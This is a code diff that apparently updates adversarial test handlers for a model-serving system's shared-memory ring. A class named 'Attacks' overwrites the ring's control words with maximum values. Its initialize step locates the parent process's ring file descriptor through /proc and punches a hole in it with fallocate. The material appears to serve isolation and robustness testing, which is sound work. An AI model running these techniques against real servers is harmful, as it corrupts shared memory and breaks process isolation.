@@ -26,9 +26,9 @@ def ring():
             return first, last - first
     raise RuntimeError("no ring was found")
 
-CONTROL, BATCHES, LARGE = 4096, 8 * 65536, 4 << 23
+CONTROL, BATCHES, LARGE = 4096, 8 * 65536, 16 << 23
 WORDS = {
-    "dispatched": 0, "sleeps": 8, "completed": 64, "held": 80, "wake_at": 128, "worker_sleeps": 136,
+    "dispatched": 0, "sleeps": 8, "completed": 64, "held": 80, "wake_at": 192, "worker_sleeps": 200,
 }
 
 def put(offset, value):
@@ -65,8 +65,8 @@ class Attacks(BaseHandler):
                 except OSError:
                     break
         if way == -8:
-            put(WORDS["held"], 2**64 - 1)
-            put(WORDS["held"] + 8, 2**64 - 1)
+            for k in range(8):
+                put(WORDS["held"] + 8 * k, 2**64 - 1)
         if way == -9: x[0, 1:4] = punch()
         return {"y": x * 1}
 """
@@ -83,9 +83,11 @@ def punch():
 class Attacks(BaseHandler):
     def initialize(self, context):
         super().initialize(context)
-        for fd in range(3, 64):
-            path = f"/proc/self/fd/{fd}"
-            if os.path.lexists(path) and "ksrv-ring" in os.readlink(path):
+        maps = Path("/proc/self/maps").read_text().splitlines()
+        (inode,) = {line.split()[4] for line in maps if "ksrv-ring" in line}
+        for path in Path(f"/proc/{os.getppid()}/fd").iterdir():
+            if "ksrv-ring" in os.readlink(path) and str(os.stat(path).st_ino) == inode:
+                fd = os.open(path, os.O_RDWR)
                 way, start, size = ctypes.c_int(3), ctypes.c_long(0), ctypes.c_long(1 << 20)
                 if ctypes.CDLL(None).fallocate(fd, way, start, size):
                     raise RuntimeError("the hole cannot be punched")
